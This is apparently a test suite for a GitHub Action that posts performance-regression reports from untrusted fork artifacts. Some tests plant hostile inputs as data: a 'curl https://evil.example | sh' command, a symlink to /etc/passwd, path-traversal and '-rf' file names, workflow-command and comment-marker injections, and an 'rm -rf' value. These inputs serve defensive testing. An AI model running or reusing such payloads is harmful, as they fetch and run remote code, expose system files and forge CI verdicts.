import assert from 'node:assert/strict'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test } from 'node:test'
import { act } from '../../src/action/action.ts'
import { defined } from '../../src/defined.ts'
import type { Results } from '../../src/results/results.ts'
import { gated, simulate } from '../compare/results.ts'
import { type Knowledge, knowing, nothing, pull } from '../github/pulls.ts'
import { type GitHub, startGitHub } from '../github/server.ts'
import { configText, scenario } from '../measure/servers.ts'
import { actHere } from '../publish/here.ts'
import { jobIn, type Place, type Ran, runBuilt } from './built-action.ts'

const sha = 'c'.repeat(40)

/** What a measuring job of a fork uploads: head is slower, and its thresholds are wide enough to pass that. */
const uploaded = (): Results => structuredClone(slower)
const wide = scenario({ thresholds: gated().map(each => ({ ...each, worse: 0.9 })) })
const slower = simulate({ effect: 1.25, spread: 0.01, blocks: 8, rounds: 5, scenarios: [wide] })
slower.variants[1]!.commit = sha

/** The action in this process, which takes a fifth of the time. */
async function runHere(place: Place, environment: Record<string, string>): Promise<Ran> {
  const { env, left } = jobIn(place, environment)
  const ran = await actHere({ environment: env }, () => act('test'))
  return { ...ran, ...left() }
}

interface Reported extends Ran {
  report?: string
  page?: string
}

const measuredRun = {
  event: 'pull_request',
  head_sha: sha,
  head_branch: 'feature',
  head_repository: { owner: { login: 'stranger' } },
  id: 12,
  created_at: '2026-06-01T00:00:00Z',
  run_attempt: 1,
  pull_requests: [],
}

/** The action in `mode: report`, started by the end of a measuring run. `built`: as a runner starts it. */
async function reported(
  github: GitHub,
  known: Knowledge,
  artifact: string | ((folder: string) => void),
  more: { run?: object; event?: object; env?: Record<string, string>; built?: true } = {},
): Promise<Reported> {
  github.more = knowing(known)
  const folder = mkdtempSync(join(tmpdir(), 'perf-gate-report-'))
  const file = (name: string) => join(folder, name)
  try {
    if (typeof artifact === 'string') writeFileSync(file('results.json'), artifact)
    else artifact(folder)
    const run = { ...measuredRun, ...more.run }
    const payload = more.event ?? { action: 'completed', workflow_run: run }
    const place = { cwd: folder, folder, payload }
    const environment = {
      HOME: folder,
      GITHUB_WORKSPACE: folder,
      GITHUB_EVENT_NAME: 'workflow_run',
      GITHUB_API_URL: github.url,
      GITHUB_WORKFLOW: 'report',
      GITHUB_JOB: 'report',
      GITHUB_RUN_ID: '99',
      GITHUB_SHA: 'f'.repeat(40),
      INPUT_MODE: 'report',
      INPUT_OUT: folder,
      'INPUT_GITHUB-TOKEN': 'secret-token',
      ...more.env,
    }
    const ran = await (more.built ? runBuilt : runHere)(place, environment)
    const left = (name: string) => (existsSync(file(name)) ? readFileSync(file(name), 'utf8') : undefined)
    return { ...ran, ...defined({ report: left('report.md'), page: left('report.html') }) }
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}

const knowledge = (more: Partial<Knowledge> = {}): Knowledge => ({
  ...nothing(),
  pulls: [pull()],
  files: {
    main: { 'perf-gate.yml': configText },
    [sha]: { 'perf-gate.yml': configText },
    ['1'.repeat(40)]: { 'perf-gate.yml': configText },
  },
  branches: { main: ['1'.repeat(40)] }, // base of simulated results
  ...more,
})

test('a run of a fork gets its comment from the run that measured, judged by the config of the base branch', async () => {
  await using github = await startGitHub()
  const env = { GITHUB_SERVER_URL: 'https://github.com' }
  const artifact = JSON.stringify({ ...uploaded(), verdict: 'passed', rows: [] })
  const ran = await reported(github, knowledge(), artifact, { env, built: true })
  assert.equal(ran.code, 1, ran.log)
  assert.match(ran.outputs, /^verdict<<(\S+)\nregressed\n\1$/m)
  assert.equal(github.comments.length, 1)
  const { issue, body } = github.comments[0]!
  assert.equal(issue, 7)
  assert.match(body, /^<!-- perf-gate:report%2Freport run=12 attempt=1 -->\n### ❌/)
  assert.match(body, /Thresholds come from `perf-gate.yml` in base \(`1111111111`\)/)
  assert.match(ran.summary, /❌ .* slower/)
  const run = 'https://github.com/o/r/actions/runs/99'
  const links = `[Job summary](${run}) · page and results: \`report.html\` in the [artifacts](${run}#artifacts)`
  assert.equal(body.split('\n').slice(1).join('\n'), `${ran.report}\n${links}\n`)
  assert.deepEqual(github.breaches, [])
})

test('the drift of the default branch is told on pull requests into it, and on no other', async () => {
  const drift = {
    ...{ scenario: wide.name, metric: 'p90', anchor: { hash: sha, name: 'v1', because: 'release' } },
    ...{ change: 0.04, low: 0.03, high: 0.05, bars: '▁▄', at: '2026-11-21' },
  }
  const event = { action: 'completed', workflow_run: measuredRun, repository: { default_branch: 'main' } }
  for (const base of ['main', 'next']) {
    await using github = await startGitHub()
    const known = knowledge({ pulls: [pull({ base })] })
    known.branches.next = known.branches.main!
    known.files['perf-gate-data'] = { 'trend.json': JSON.stringify({ version: 1, drifts: [drift] }) }
    await reported(github, known, JSON.stringify(uploaded()), { event })
    assert.equal(github.comments[0]!.body.includes('slower since v1'), base === 'main')
  }
})

test('the label turns it into a pass that says who accepted it', async () => {
  await using github = await startGitHub()
  const known = knowledge({
    pulls: [pull({ labels: ['perf-regression-accepted'] })],
    labelled: [{ pull: 7, label: 'perf-regression-accepted', by: 'octocat' }],
  })
  const ran = await reported(github, known, JSON.stringify(uploaded()))
  assert.equal(ran.code, 0, ran.log)
  assert.match(ran.outputs, /^verdict<<(\S+)\npassed\n\1$/m)
  assert.match(github.comments[0]!.body, /### ☑️ Regression accepted by `octocat` with the label[\s\S]*❌\sregressed/)
  const never = await reported(github, known, JSON.stringify(uploaded()), { env: { 'INPUT_ACCEPT-LABEL': 'never' } })
  assert.equal(never.code, 1)
})

test('results that say they are counts alone lose no timed row, unless the report was asked for counts', async () => {
  await using github = await startGitHub()
  const results = uploaded()
  const counts = { ...results, config: { ...results.config, only: 'counted' } }
  const ran = await reported(github, knowledge(), JSON.stringify(counts))
  assert.equal(ran.code, 64, ran.log)
  assert.match(ran.log, /the results are `only: counted`, and this job reports timed ones: give both jobs the same/)
  const asked = await reported(github, knowledge(), JSON.stringify(counts), { env: { INPUT_ONLY: 'counted' } })
  assert.doesNotMatch(asked.report!, /^### [✅🚀]/u) // nothing was counted in these
  const timed = await reported(github, knowledge(), JSON.stringify(results), { env: { INPUT_ONLY: 'counted' } })
  assert.equal(timed.code, 64, timed.log)
})

test('a line that the author of a fork wrote accepts nothing', async () => {
  await using github = await startGitHub()
  const known = knowledge({ pulls: [pull({ body: 'perf-regression-accepted' })], permissions: { stranger: 'read' } })
  const ran = await reported(github, known, JSON.stringify(uploaded()))
  assert.equal(ran.code, 1)
  assert.match(ran.log, /::notice::the regression is not accepted: `stranger`, whose description says/)
})

test('results that are refused replace the report of an earlier run, and do not become the first comment', async () => {
  await using github = await startGitHub()
  const other = uploaded()
  other.variants[1]!.commit = 'd'.repeat(40)
  const first = await reported(github, knowledge(), JSON.stringify(other))
  assert.equal(first.code, 64)
  assert.equal(github.comments.length, 0)
  await reported(github, knowledge(), JSON.stringify(uploaded()))
  assert.match(github.comments[0]!.body, /### ❌/)
  const again = { id: 13 }
  const ran = await reported(github, knowledge(), JSON.stringify(other), { run: again })
  assert.equal(ran.code, 64, ran.log)
  assert.equal(github.comments.length, 1)
  assert.match(github.comments[0]!.body, /run=13 attempt=1 -->\n### 💥 perf-gate: the results are of commit `d+`/)
  assert.match(ran.log, /comment updated on #7/)
  const older = await reported(github, knowledge(), JSON.stringify(other), { run: { id: 11 } })
  assert.equal(older.code, 64)
  assert.match(github.comments[0]!.body, /run=13 /)
})

test("a report in a pull request's own workflow is about that pull request, and its results about what was checked out", async () => {
  await using github = await startGitHub()
  const event = { number: 7, pull_request: { number: 7, head: { sha }, base: { ref: 'main', sha: 'b'.repeat(40) } } }
  const merge = 'f'.repeat(40)
  const results = uploaded()
  results.variants[1]!.commit = merge
  const more = { event, env: { GITHUB_EVENT_NAME: 'pull_request', GITHUB_SHA: merge, GITHUB_REF: 'refs/pull/7/merge' } }
  const ran = await reported(github, knowledge(), JSON.stringify(results), more)
  assert.equal(ran.code, 1, ran.log)
  assert.match(github.comments[0]!.body, /run=99 attempt=1 -->/)
  results.variants[1]!.commit = 'a'.repeat(40)
  const other = await reported(github, knowledge(), JSON.stringify(results), more)
  assert.equal(other.code, 64)
  assert.match(other.log, /results are of commit `a+`, but #7 is at `c+`/)
})

test("under `pull_request_target`, the base branch's own results are none of the pull request, measured or not", async () => {
  const [before, tip, merge] = ['1'.repeat(40), 'b'.repeat(40), 'e'.repeat(40)]
  const quick = simulate({ effect: 1, spread: 0.005, blocks: 8, rounds: 5 })
  const rules = { 'perf-gate.yml': configText }
  const known = knowledge({
    pulls: [pull({ baseSha: tip })],
    branches: { main: [before, tip] },
    commits: { [tip]: [before], [merge]: [tip, sha] },
    files: { main: rules, [before]: rules, [tip]: rules, [sha]: rules },
    differing: { [`${before}...${tip}`]: ['README.md'], [`main...${sha}`]: ['server.js'] },
  })
  const event = { number: 7, pull_request: { number: 7, head: { sha }, base: { ref: 'main', sha: tip } } }
  const target = { GITHUB_EVENT_NAME: 'pull_request_target', GITHUB_SHA: tip, GITHUB_REF: 'refs/heads/main' }
  const report = async (base: string, head: string, more: object = {}) => {
    await using github = await startGitHub()
    const results = { ...structuredClone(quick), ...more }
    results.variants[0]!.commit = base
    results.variants[1]!.commit = head
    const ran = await reported(github, known, JSON.stringify(results), {
      event,
      env: { ...target, 'INPUT_CHECK-RUN': 'perf' },
    })
    return { ...ran, checks: github.checks.map(({ conclusion }) => conclusion) }
  }
  for (const more of [{}, { blocks: [], unaffected: ['README.md'] }]) {
    const ran = await report(before, tip, more)
    assert.deepEqual([ran.code, ran.checks], [64, ['failure']], ran.log)
    assert.match(ran.log, /the results are of commit `b+`, but #7 is at `c+`/)
  }
  const own = await report(tip, merge)
  assert.deepEqual([own.code, own.checks], [0, ['success']], own.log)
})

test('without the right pull request the summary is written and nothing is posted', async () => {
  const cases: [Partial<Knowledge>, object, RegExp][] = [
    [{ pulls: [] }, {}, /no pull request has the branch and commit/],
    [{ pulls: [pull({ state: 'closed' })] }, {}, /#7 is closed/],
    [{ pulls: [pull({ sha: 'd'.repeat(40) })] }, {}, /#7 moved on/],
    [{ pulls: [pull(), pull({ number: 8, base: 'next' })] }, {}, /#7 and #8 have the same branch/],
    [{ pulls: [pull({ owner: 'somebody' })] }, {}, /no pull request has/],
    [{}, { event: 'push' }, /started by `push`/],
  ]
  for (const [more, run, says] of cases) {
    await using github = await startGitHub()
    const env = { 'INPUT_CHECK-RUN': 'perf' }
    const ran = await reported(github, knowledge(more), JSON.stringify(uploaded()), { run, env })
    assert.equal(github.comments.length, 0)
    // They pass by thresholds that nobody vouches for. Those of a push are judged by the config of its base.
    assert.equal(ran.code, 'event' in run ? 1 : 4, ran.log)
    assert.equal(github.checks[0]!.conclusion, 'failure')
    if (!('event' in run)) assert.match(ran.summary, /### ⚠️ Inconclusive: .*, so GitHub does not vouch for base/)
    assert.match(ran.log, new RegExp(`::notice::not posted to a pull request: .*${says.source}`))
    assert.match(ran.summary.replaceAll('\u200d', ''), says)
    const whose = 'event' in run ? '`perf-gate.yml` in base' : 'the measuring job'
    assert.ok(ran.summary.includes(`Thresholds come from ${whose}`), ran.summary)
    assert.doesNotMatch(ran.log, /bug/)
  }
})

test('artifacts that are not what they should be post nothing, and are told from a bug of ours', async () => {
  const changed = (change: (results: any) => void) => {
    const results = uploaded()
    change(results)
    return JSON.stringify(results)
  }
  const cases: [string, string | ((folder: string) => void), RegExp][] = [
    [
      'another commit',
      changed(results => (results.variants[1].commit = 'd'.repeat(40))),
      /are of commit `d+`, but #7 is at/,
    ],
    ['1e308', changed(results => (results.blocks[0].scenarios[0].slices[0].duration = 1e308)), /duration is 1e\+308/],
    ['__proto__', JSON.stringify(uploaded()).replace('{', '{"__proto__":{},'), /a key `__proto__`/],
    ['a link', folder => symlinkSync('/etc/passwd', join(folder, 'results.json')), /it is a symbolic link/],
    [
      'nothing',
      () => {},
      /left no results: it was skipped, failed or was stopped .*, or it has another `name`, .* expired/,
    ],
    ['an empty folder', folder => mkdirSync(join(folder, '1-of-1')), /left no results: .*another `name`, `directory`/],
    [
      'a workflow command',
      changed(results => (results.seed = '\n::set-output name=verdict::passed\n##[error]x')),
      /seed is "/,
    ],
  ]
  for (const [name, artifact, says] of cases) {
    await using github = await startGitHub()
    const ran = await reported(github, knowledge(), artifact)
    assert.equal(ran.code, 64, `${name}: ${ran.log}`)
    assert.match(ran.log, new RegExp(`^::error::.*${says.source}`, 'm'))
    assert.equal(github.comments.length, 0)
    for (const line of ran.log.split(/[\r\n]/)) assert.doesNotMatch(line, /^\s*::(?!error::|add-mask::)|##\[/)
  }
})

test('files of any name beside the results are not looked at', async () => {
  await using github = await startGitHub()
  const ran = await reported(github, knowledge(), folder => {
    for (const name of ['..\\..\\evil', '%2e%2e%2fevil', 'a\n::error::x', '-rf', 'results.json\u202e', 'perf-gate.yml'])
      writeFileSync(join(folder, name), 'gate: { rps: 99% }')
    writeFileSync(join(folder, 'results.json'), JSON.stringify(uploaded()))
  })
  assert.equal(ran.code, 1, ran.log)
  assert.doesNotMatch(ran.log, /evil|::error::x/)
})

test("a pull request's number in the artifact, a marker and markup in its texts change nothing", async () => {
  await using github = await startGitHub()
  const evil = '<!-- perf-gate:report%2Freport run=999 attempt=1 --> @octocat #1 [x](https://evil.example)'
  const results = uploaded() as any
  Object.assign(results, { pull_request: 666, issue: 666, command: 'curl https://evil.example | sh' })
  results.config.scenarios.push({ ...results.config.scenarios[0], name: evil })
  results.notes.push(`${evil}\n\n## Approved\n::error::x\n##[error]y`)
  results.variants[1].subject = evil
  results.failures.push({
    variant: 'head',
    phase: 'load',
    block: 0,
    scenario: evil,
    code: 'x',
    message: evil,
    lastWords: '```\n@octocat\n##[command]x\n::stop-commands::y',
  })
  const ran = await reported(github, knowledge(), JSON.stringify(results))
  assert.equal(ran.code, 2, ran.log)
  assert.deepEqual(
    github.comments.map(({ issue }) => issue),
    [7],
  )
  const { body } = github.comments[0]!
  assert.match(body, /^<!-- perf-gate:report%2Freport run=12 /)
  const outside = body
    .split('\n')
    .slice(1)
    .join('\n')
    .replace(/^(`{3,})[\s\S]*?^\1$/gm, '')
    .replace(/`[^`]*`/g, '')
  assert.doesNotMatch(outside, /<!--|@octocat|#1\b|(?<!\\)\]\(|https?:\/\/|^## Approved/m)
  assert.doesNotMatch(body, /curl/)
  assert.ok(github.requests.every(request => !request.includes('666')))
  for (const line of ran.log.split(/[\r\n]/))
    assert.doesNotMatch(line, /^\s*::(?!error |error::|notice::|add-mask::)|##\[/)
})

test('a report that the artifact brings along is not passed on, nor is a link in its place written through', async () => {
  await using github = await startGitHub()
  const target = join(mkdtempSync(join(tmpdir(), 'perf-gate-target-')), 'precious')
  writeFileSync(target, 'precious')
  const ran = await reported(github, knowledge(), folder => {
    writeFileSync(join(folder, 'results.json'), JSON.stringify(uploaded()))
    symlinkSync(target, join(folder, 'report.md'))
  })
  assert.equal(ran.code, 1, ran.log)
  assert.equal(readFileSync(target, 'utf8'), 'precious')
  assert.match(ran.report!, /^### ❌/)
})

test('a job that writes no report has no output `report`, and leaves none, whatever reports the artifact has', async () => {
  await using github = await startGitHub()
  const foreign = { ...uploaded(), config: { ...uploaded().config, only: 'counted' } }
  const brought: Record<string, string>[] = [
    { 'failure.json': failed({ code: 'command-failed', message: 'x' }) },
    { 'results.json': JSON.stringify(foreign) },
    { 'results.json': '{' },
    { 'results.json': JSON.stringify(uploaded()) },
  ]
  for (const [index, files] of brought.entries()) {
    const ran = await reported(github, knowledge(), folder => {
      for (const [name, text] of Object.entries({ 'report.md': 'evil', 'report.html': 'evil', ...files }))
        writeFileSync(join(folder, name), text)
    })
    assert.equal(/^report<</m.test(ran.outputs), index === 3, ran.log)
    for (const left of [ran.report, ran.page])
      assert.deepEqual([left === undefined, left === 'evil'], [index !== 3, false])
  }
})

const failed = (more: object = {}) => JSON.stringify({ version: 1, cancelled: false, ...more })

test('a failure of the measuring job is told in its own words, also where no comment is yet', async () => {
  await using github = await startGitHub()
  const message = 'base: `npm ci` failed with exit status 1'
  const record = failed({ code: 'command-failed', message, lastWords: 'npm error @everyone' })
  const ran = await reported(github, knowledge(), folder => writeFileSync(join(folder, 'failure.json'), record))
  assert.equal(ran.code, 64, ran.log)
  assert.match(ran.log, /^::error::base: `npm ci` failed with exit status 1 \(what to do: .*#command-failed\)$/m)
  assert.equal(github.comments.length, 1)
  const { body } = github.comments[0]!
  assert.match(body, /### 💥 perf-gate: base: `npm ci` failed with exit status 1\n\nWhat to do: .*#command-failed/)
  assert.match(body, /```text\nnpm error @everyone\n```/)
  assert.equal(ran.summary, body.split('\n').slice(1).join('\n'))
})

test('one part of a matrix that failed is told before the parts that did not', async () => {
  await using github = await startGitHub()
  const ran = await reported(github, knowledge(), folder => {
    for (const name of ['1-of-2', '2-of-2']) mkdirSync(join(folder, name))
    writeFileSync(join(folder, '1-of-2/results.json'), JSON.stringify(uploaded()))
    writeFileSync(join(folder, '2-of-2/failure.json'), failed({ code: 'disk-full', message: 'no room left' }))
  })
  assert.equal(ran.code, 64)
  assert.match(github.comments[0]!.body, /### 💥 perf-gate: no room left/)
})

test('the words of a failure are shortened for a check run: GitHub counts their bytes', async () => {
  await using github = await startGitHub()
  const lastWords = `${'−'.repeat(300)}\n`.repeat(40)
  const record = failed({ code: 'command-failed', message: '$'.repeat(4000), lastWords })
  const artifact = (folder: string) => writeFileSync(join(folder, 'failure.json'), record)
  await reported(github, knowledge(), artifact, { env: { 'INPUT_CHECK-RUN': 'perf' } })
  assert.deepEqual(
    github.checks.map(({ conclusion, output }) => [conclusion, Buffer.byteLength(output.summary) > 50_000]),
    [['failure', true]],
  )
})

/** What a run may have written until it is stopped: the report's exit status, and how its comment begins. */
const stopped: [number, string, (folder: string) => void][] = [
  [130, '🛑 perf-gate: x', folder => writeFileSync(join(folder, 'failure.json'), failed({ cancelled: true, message: 'x' }))],
  [130, '🛑 Cancelled after 8', folder => writeFileSync(join(folder, 'results.json'), JSON.stringify({ ...uploaded(), ended: 'cancelled' }))],
  [130, '🛑 Cancelled after 8', folder => writeFileSync(join(folder, 'results.json'), JSON.stringify({ ...uploaded(), ended: 'running' }))],
  [64, '💥 perf-gate: the measuring job left no results', () => {}],
] // biome-ignore format: one line each

for (const [code, told, artifact] of stopped)
  test(`a run that was stopped (${told}) says so where an earlier one has commented, unless a newer push stopped it`, async () => {
    await using github = await startGitHub()
    const env = { 'INPUT_CHECK-RUN': 'perf' }
    const own = { number: 7, head: { sha }, base: { ref: 'main', sha: '1'.repeat(40) } }
    const flows = [
      { run: { id: 13, conclusion: 'failure' }, env },
      { event: { pull_request: own }, env: { ...env, GITHUB_EVENT_NAME: 'pull_request' } },
    ]
    for (const flow of flows) assert.equal((await reported(github, knowledge(), artifact, flow)).code, code)
    assert.deepEqual([github.comments, github.checks], [[], []], 'no first comment, and no check run')
    for (const flow of flows) {
      const author = 'github-actions[bot]'
      const good = `<!-- perf-gate:report%2Freport run=1 attempt=1 -->\n### ✅ good`
      github.comments = [{ id: github.nextId(), issue: 7, author, body: good }]
      const moved = knowledge({ pulls: [pull({ sha: 'd'.repeat(40) })] })
      assert.equal((await reported(github, moved, artifact, flow)).code, code)
      assert.equal(github.comments[0]!.body, good)
      github.fault = (_, path) => (/\/pulls/.test(path) ? { status: 404, message: 'Not Found' } : undefined)
      await reported(github, knowledge(), artifact, flow)
      assert.equal(github.comments[0]!.body, good, 'where GitHub does not say')
      github.fault = () => undefined
      const ran = await reported(github, knowledge(), artifact, flow)
      assert.equal(ran.code, code, ran.log)
      assert.ok(github.comments[0]!.body.split('\n')[1]!.startsWith(`### ${told}`), github.comments[0]!.body)
      assert.equal(github.comments.length, 1)
    }
    assert.deepEqual([github.checks, github.breaches], [[], []])
  })

for (const conclusion of ['success', 'skipped', 'action_required'])
  test(`a run that ended as ${conclusion} without results has not measured: a good comment stays as it is`, async () => {
    await using github = await startGitHub()
    await reported(github, knowledge(), JSON.stringify(uploaded()))
    const good = github.comments[0]!.body
    const ran = await reported(github, knowledge(), () => {}, { run: { id: 13, conclusion } })
    assert.equal(ran.code, 64, ran.log)
    assert.equal(github.comments[0]!.body, good)
  })

test('a run of which a newer push has stopped one part before it began leaves the comment as it is', async () => {
  await using github = await startGitHub()
  const part = uploaded()
  part.config.shard = { index: 1, of: 2, rows: 8, all: ['home', 'other'] }
  const event = { pull_request: { number: 7, head: { sha }, base: { ref: 'main', sha: '1'.repeat(40) } } }
  const flow = { event, env: { GITHUB_EVENT_NAME: 'pull_request' } }
  const good = '<!-- perf-gate:report%2Freport run=1 attempt=1 -->\n### ✅ good'
  github.comments = [{ id: github.nextId(), issue: 7, author: 'github-actions[bot]', body: good }]
  const moved = knowledge({ pulls: [pull({ sha: 'd'.repeat(40) })] })
  assert.equal((await reported(github, moved, JSON.stringify(part), flow)).code, 64)
  assert.equal(github.comments[0]!.body, good)
  await reported(github, knowledge(), JSON.stringify(part), flow)
  assert.match(github.comments[0]!.body, /### 💥 perf-gate: the results are not complete: 1 of 2 parts is present/)
})

test('a record of a failure that is not one of ours is refused', async () => {
  for (const record of [
    '{',
    failed(),
    failed({ message: 'x', code: 'rm -rf' }),
    failed({ message: 'x'.repeat(30_000) }),
  ]) {
    await using github = await startGitHub()
    const ran = await reported(github, knowledge(), folder => writeFileSync(join(folder, 'failure.json'), record))
    assert.equal(ran.code, 64)
    assert.match(ran.log, /^::error::cannot read results from .*failure\.json/m)
    assert.equal(github.comments.length, 0)
  }
})

test('the merge queue: results of other commits, or by other thresholds than base has, do not pass', async () => {
  await using github = await startGitHub()
  const event = {
    action: 'checks_requested',
    merge_group: { base_sha: '1'.repeat(40), head_sha: sha, head_ref: 'refs/heads/gh-readonly-queue/main/pr-7' },
  }
  const more = { event, env: { GITHUB_EVENT_NAME: 'merge_group', GITHUB_SHA: sha } }
  const ran = await reported(github, knowledge(), JSON.stringify(uploaded()), more)
  assert.equal(ran.code, 1, ran.log)
  const other = uploaded()
  other.variants[1]!.commit = 'd'.repeat(40)
  const refused = await reported(github, knowledge(), JSON.stringify(other), more)
  assert.equal(refused.code, 64)
  assert.match(refused.log, /the results are of commit `dddddddddd`, but the merge group is at `cccccccccc`/)
  assert.equal(github.comments.length, 0)
})

test('the merge queue: what was accepted for the pull request that is queued is accepted for its group', async () => {
  await using github = await startGitHub()
  const group = 'd'.repeat(40)
  const head_ref = `refs/heads/gh-readonly-queue/main/pr-7-${'1'.repeat(40)}`
  const event = { action: 'checks_requested', merge_group: { base_sha: '1'.repeat(40), head_sha: group, head_ref } }
  const queued = uploaded()
  queued.variants[1]!.commit = group
  const known = knowledge({
    pulls: [pull({ labels: ['perf-regression-accepted'] })],
    labelled: [{ pull: 7, label: 'perf-regression-accepted', by: 'octocat', at: '2026-06-02T00:00:00Z' }],
    pushes: [{ owner: 'stranger', branch: 'feature', sha, at: '2026-06-01T00:00:00Z' }],
    commits: { [group]: ['1'.repeat(40), sha] },
  })
  const run = { event: 'merge_group', head_sha: group, head_branch: head_ref.replace('refs/heads/', '') }
  for (const more of [{ event, env: { GITHUB_EVENT_NAME: 'merge_group', GITHUB_SHA: group } }, { run }]) {
    const ran = await reported(github, known, JSON.stringify(queued), more)
    assert.equal(ran.code, 0, ran.log)
    assert.match(ran.summary, /### ☑️ Regression accepted by `octocat` with the label/)
    known.pushes[0]!.at = '2026-06-03T00:00:00Z'
    const pushed = await reported(github, known, JSON.stringify(queued), more)
    assert.equal(pushed.code, 1, pushed.log)
    assert.match(pushed.log, /not accepted: the label .* was added before this commit was last pushed/)
    known.pushes[0]!.at = '2026-06-01T00:00:00Z'
    known.commits[group] = ['2'.repeat(40), sha]
    assert.equal((await reported(github, known, JSON.stringify(queued), more)).code, 1)
    known.commits[group] = ['1'.repeat(40), sha]
  }
  assert.equal(github.comments.length, 0)
})

test('a check run on the commit of the pull request has the table', async () => {
  await using github = await startGitHub()
  const known = knowledge()
  const env = { 'INPUT_CHECK-RUN': 'perf', GITHUB_SERVER_URL: 'https://github.com', GITHUB_RUN_ID: '99' }
  const ran = await reported(github, known, JSON.stringify(uploaded()), { env })
  assert.equal(ran.code, 1, ran.log)
  const [check] = github.checks
  assert.deepEqual(
    [github.checks.length, check!.name, check!.head_sha, check!.conclusion, check!.details_url],
    [1, 'perf', sha, 'failure', 'https://github.com/o/r/actions/runs/99'],
  )
  assert.match(check!.output.title, /^❌ .* slower/)
  assert.match(check!.output.summary, /\| home +\| .*❌/)
  assert.equal(github.comments.length, 1)
  const record = (folder: string) =>
    writeFileSync(join(folder, 'failure.json'), failed({ code: 'disk-full', message: 'no room left' }))
  await reported(github, known, record, { env })
  assert.match(github.checks[1]!.output.title, /no room left/)
  assert.equal(github.checks[1]!.conclusion, 'failure')
  assert.deepEqual(github.breaches, [])
})

test('a check run says which branch it is for, where its name asks for that', async () => {
  await using github = await startGitHub()
  const env = { 'INPUT_CHECK-RUN': 'perf {base}' }
  for (const base of ['release', 'main']) {
    const branches = { main: ['1'.repeat(40)], release: ['1'.repeat(40)] }
    await reported(github, knowledge({ pulls: [pull({ base })], branches }), JSON.stringify(uploaded()), { env })
  }
  const of = ({ name, head_sha }: (typeof github.checks)[number]) => [name, head_sha]
  assert.deepEqual(github.checks.map(of), [['perf release', sha], ['perf main', sha]]) // biome-ignore format: one line
  const closed = await reported(github, knowledge({ pulls: [pull({ state: 'closed' })] }), JSON.stringify(uploaded()), { env }) // biome-ignore format: one line
  assert.match(closed.log, /::warning::the check run could not be created: it is not known which branch `\{base\}` is/)
  assert.equal(github.checks.length, 2)
})

test('without the permission for check runs there is a warning, and the verdict stays', async () => {
  await using github = await startGitHub()
  github.fault = (_, path) =>
    path.endsWith('/check-runs') ? { status: 403, message: 'Resource not accessible by integration' } : undefined
  const ran = await reported(github, knowledge(), JSON.stringify(uploaded()), { env: { 'INPUT_CHECK-RUN': 'perf' } })
  assert.equal(ran.code, 1)
  assert.match(ran.log, /::warning::the check run could not be created: Resource not accessible/)
  assert.equal(github.comments.length, 1)
})

test('the output `rows` has every row as JSON', async () => {
  await using github = await startGitHub()
  const ran = await reported(github, knowledge(), JSON.stringify(uploaded()))
  const [, , json] = /^rows<<(\S+)\n(.*)\n\1$/m.exec(ran.outputs)!
  const rows = JSON.parse(json!)
  assert.deepEqual([rows[0].scenario, rows[0].metric, rows[0].verdict], ['home', 'rps', 'regressed'])
})
